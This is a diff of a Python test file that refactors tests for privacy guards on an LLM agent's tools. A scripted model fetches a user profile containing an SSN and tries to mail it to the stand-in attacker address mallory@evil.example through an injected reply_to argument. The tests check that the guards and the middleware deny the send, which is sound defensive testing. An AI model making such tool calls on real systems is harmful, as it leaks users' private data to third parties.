@@ -27,26 +27,14 @@ and the extra keys are taken from the validation by the tool's own schema (`vfa.
 
 from __future__ import annotations
 
-import json
 from typing import Annotated, Any
 
-from _tool_loop import model_node, tool_loop
-from langchain.agents import create_agent
-from langchain_core.messages import AIMessage, HumanMessage
-from langchain_core.tools import InjectedToolArg, StructuredTool, tool
-from langgraph.checkpoint.memory import InMemorySaver
-from langgraph.prebuilt import ToolNode
+from _schema_mail import MALLORY, USER, middleware_denies, profile_then_mail, retrofit_denies, ssn_handle
+from langchain_core.tools import InjectedToolArg, StructuredTool
 from pydantic import BaseModel, model_validator
 
-import graphs
-from guards import PrivacyFlow, PrivacyPolicy, audit_trace, privacy_sink, privacy_source, trace_from_journal
-from vfa import EffectJournal
-from vfa.testing import ScriptedModel
+from guards import privacy_sink, privacy_source
 
-USER = "me@home.example"
-MALLORY = "mallory@evil.example"
-SSN = "078-05-1120"
-CFG = {"configurable": {"thread_id": "t"}}
 
 
 class MailArgs(BaseModel):
@@ -62,14 +50,6 @@ class MailArgs(BaseModel):
         return data
 
 
-@tool
-@privacy_sink()
-@privacy_source(private=["ssn"], kind="profile")
-def get_profile() -> dict:
-    """The user's profile."""
-    return {"name": "Ann", "ssn": SSN}
-
-
 def _mail(sent: list[Any]) -> Any:
     def send_email(body: str, reply_to: str = "", to: str = USER) -> str:
         """Send an e-mail."""
@@ -80,19 +60,8 @@ def _mail(sent: list[Any]) -> Any:
     return StructuredTool.from_function(fn, name="send_email", args_schema=MailArgs)
 
 
-def _rule(messages: list[Any]) -> Any:
-    results = [m for m in messages if m.type == "tool"]
-    if not results:
-        return AIMessage("", tool_calls=[{"name": "get_profile", "args": {}, "id": "c1"}])
-    if len(results) == 1:  # no `to` written: the guards judge its default, the tool's validator reads mallory
-        ssn = json.loads(results[0].content)["ssn"]
-        return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
-                                          "args": {"reply_to": MALLORY, "body": ssn}}])
-    return AIMessage("done")
-
-
-def _unsent(sent: list[Any]) -> bool:
-    return not any(SSN in body or to == MALLORY for to, body in sent)
+_rule = profile_then_mail(lambda shown: {"reply_to": MALLORY, "body": ssn_handle(shown)})
+# no `to` written: the guards judge its default, the tool's validator reads mallory
 
 
 def test_control_without_reply_to_the_mail_reaches_the_user() -> None:
@@ -103,30 +72,12 @@ def test_control_without_reply_to_the_mail_reaches_the_user() -> None:
 
 def test_guard_graph_judges_the_bare_injected_recipient_as_the_tool_reads_it() -> None:
     sent: list[Any] = []
-    mail = _mail(sent)
-    b = tool_loop(model_node(ScriptedModel(rule=_rule)), ToolNode([get_profile, mail]))
-    journal = EffectJournal()
-    flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt170", journal=journal)
-    app = graphs.guard_graph(b, [flow.guard()], flow=flow, read_only=["get_profile"], journal=journal)
-    out = app.invoke({"messages": [HumanMessage("Mail me my profile.")]}, CFG)
-    shown = [m for m in out["messages"] if m.type == "tool"]
-    assert json.loads(shown[0].content)["ssn"].startswith("«ssn:")  # the model holds the SSN as a handle
-    assert _unsent(sent), f"the tool mailed {sent!r}; the guards judged to={USER!r}"
-    assert shown[-1].artifact["vfa"]["outcome"] == "denied"
-    found = audit_trace(trace_from_journal(journal, "t", messages=out["messages"]), [get_profile, mail],
-                        PrivacyPolicy.of(USER), thread_id="t")
-    assert any(v.call_id == "c2" for v in found)
+    retrofit_denies(_rule, _mail(sent), sent)
 
 
 def test_middleware_judges_the_bare_injected_recipient_as_the_tool_reads_it() -> None:
     sent: list[Any] = []
-    flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt170")
-    mw = graphs.GuardMiddleware([flow.guard()], flow=flow, read_only=["get_profile"])
-    app = create_agent(ScriptedModel(rule=_rule), [get_profile, _mail(sent)], middleware=[mw],
-                       checkpointer=InMemorySaver())
-    out = app.invoke({"messages": [HumanMessage("Mail me my profile.")]}, CFG)
-    assert _unsent(sent), f"the tool mailed {sent!r}; the guards judged to={USER!r}"
-    assert [m for m in out["messages"] if m.type == "tool"][-1].artifact["vfa"]["outcome"] == "denied"
+    middleware_denies(_rule, _mail(sent), sent)
 
 
 def test_a_key_the_tools_validator_adds_is_judged_beside_an_injected_argument() -> None:
